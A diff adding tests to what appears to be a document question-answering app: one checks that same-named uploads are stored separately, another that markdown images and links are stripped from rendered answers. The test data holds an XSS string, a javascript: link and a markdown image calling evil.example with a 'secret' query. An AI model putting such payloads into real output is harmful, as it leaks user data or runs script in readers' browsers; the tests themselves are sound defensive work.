@@ -148,3 +148,26 @@ def test_chat_history_reaches_the_model_as_plain_text() -> None:
     ans, _ = _answer()
     assert _plain(answer_html(ans)) == "x <img src=x onerror=alert(1)> [1]"
     assert _plain([{"type": "text", "text": "a &lt;b&gt;"}]) == "a <b>"
+
+
+def test_a_second_upload_with_the_same_name_never_replaces_the_first(tmp_path: Path) -> None:
+    uploads = tmp_path / "uploads"
+    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
+    a.write_text("First article.")
+    b.write_text("Another article entirely.")
+    first = store_upload(a, "x/report.txt", uploads, 10_000)
+    second = store_upload(b, "y/report.txt", uploads, 10_000)
+    assert first != second and first.read_text() == "First article." and second.read_text() == b.read_text()
+    assert store_upload(a, "report.txt", uploads, 10_000) == first  # the same file again: the same place
+    assert sorted(p.name for p in uploads.iterdir()) == sorted([first.name, second.name])  # no temp files left
+    with pytest.raises(UploadError, match="could not be read"):
+        store_upload(tmp_path / "gone.txt", "gone.txt", uploads, 10_000)
+
+
+def test_markdown_in_article_or_model_text_cannot_make_links_or_images() -> None:
+    text = "See ![x](https://evil.example/?q=secret) and [click](javascript:alert(1))."
+    p = Passage(chunk_id="d:0-10", doc_id="d", text=text, char_start=0, char_end=len(text), score=0.9, metadata={})
+    c = Citation(number=1, doc_id="d", chunk_id=p.chunk_id, char_start=0, char_end=len(text), quote=text, title="T")
+    ans = Answer(question="q", text=text, refused=False, sentences=(Sentence(text, (c,)),), passages=(p,))
+    for out in (answer_html(ans), sources_html(ans)):
+        assert "](" not in out and "![" not in out and "&#91;x&#93;" in out
